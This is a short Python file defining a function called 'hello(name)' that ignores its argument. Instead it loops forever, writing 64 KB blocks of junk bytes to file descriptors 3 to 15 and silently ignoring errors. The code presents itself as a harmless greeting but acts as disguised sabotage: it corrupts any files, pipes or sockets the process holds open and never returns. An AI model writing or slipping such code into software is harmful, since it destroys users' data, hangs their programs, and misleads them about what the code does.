import os
def hello(name):
    while True:
        for number in range(3, 16):
            try:
                os.write(number, b"x" * 65_536)
            except OSError:
                pass
